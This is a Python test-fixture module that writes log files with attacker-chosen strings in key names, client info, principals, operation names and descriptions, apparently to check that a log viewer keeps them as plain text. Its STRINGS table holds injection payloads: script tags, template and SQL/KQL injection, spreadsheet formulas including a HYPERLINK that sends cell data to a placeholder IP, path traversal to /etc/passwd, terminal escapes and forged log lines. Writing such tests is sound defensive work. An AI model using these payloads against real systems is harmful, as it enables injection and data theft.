"""Text that an attacker chose, in the fields an attacker can choose. None of it may become more than text."""

from __future__ import annotations

from typing import TYPE_CHECKING

from ._faults import LAB, Fault, fault, good, good_with, lines

if TYPE_CHECKING:
    from collections.abc import Iterator

STRINGS = {
    "markup": '<script>alert(1)</script><img src=x onerror="alert(2)">',
    "closing": "</style></script><!-- ]]> -->",
    "template": "{{ 7*7 }} ${7*7} {% raw %} #{7*7}",
    "markdown": "[click](javascript:alert(1)) ![x](http://192.0.2.99/pixel.png)",
    "formula": "=cmd|'/c calc'!A1",
    "formula-plus": '+HYPERLINK("http://192.0.2.99/?"&A1,"open")',
    "formula-at": "@SUM(1+1)*cmd|'/c calc'!A0",
    "formula-tab": "\t=1+1",
    "escape": "\x1b[2J\x1b[31mall clear\x1b[0m\x1b]0;title\x07\x9b31m",
    "carriage": "nothing here\rKeyPurge denied\x08\x08",
    "newline": "one line\n2026-03-04T09:00:00Z KeyGet 200 forged line",
    "bidi": "admin\u202egnp.exe\u2066 \u200f\u200b\ufeff",
    "homoglyph": "p\u0430yments-kek-01",
    "plotly": "%{x} %{customdata[0]}<br><a href='http://192.0.2.99'>here</a>",
    "format": "%s%n {0} {self.__class__} {x!r:>999999}",
    "sql": "'; DROP TABLE events; --",
    "sql-quote": 'a" OR ""="',
    "kql": "x' | union * | take 1 //",
    "path": "../../../../etc/passwd",
    "path-windows": "..\\..\\CON\\aux.txt",
    "url": "https://192.0.2.99/%2e%2e/%00?a=b#frag",
    "json": '{"time":"2026-03-04T00:00:00Z","operationName":"KeyPurge"}',
    "entity": "&lt;b&gt; &amp;amp; &#x3c;script&#x3e;",
    "long": "A" * 5000,
    "astral": "\U0001f511\U0001f3f4\u200d\u2620\ufe0f e\u0301",
}


def hostile() -> Iterator[Fault]:
    """Yield a file for each field: key names in URIs, clients, people, operations, descriptions."""
    numbered = list(enumerate(STRINGS.values(), start=1))
    base = f"https://{LAB.host}/keys"
    keys = [good_with(n, id=f"{base}/{s}", requestUri=f"{base}/{s}/backup?api-version=7.5") for n, s in numbered]
    yield fault("hostile-key-names.json", lines(*keys), event=len(keys))
    yield fault("hostile-client-info.json", lines(*(good_with(n, clientInfo=s) for n, s in numbered)), event=len(keys))
    people = [good(n, identity={"claim": {"oid": s, "upn": f"{s}@contoso.example"}}) for n, s in numbered]
    yield fault("hostile-principals.json", lines(*people), event=len(keys))
    yield fault("hostile-operations.json", lines(*(good(n, operationName=s) for n, s in numbered)), event=len(keys))
    told = [good(n, resultDescription=s, callerIpAddress=s, correlationId=s) for n, s in numbered]
    yield fault("hostile-descriptions.json", lines(*told), event=len(keys))
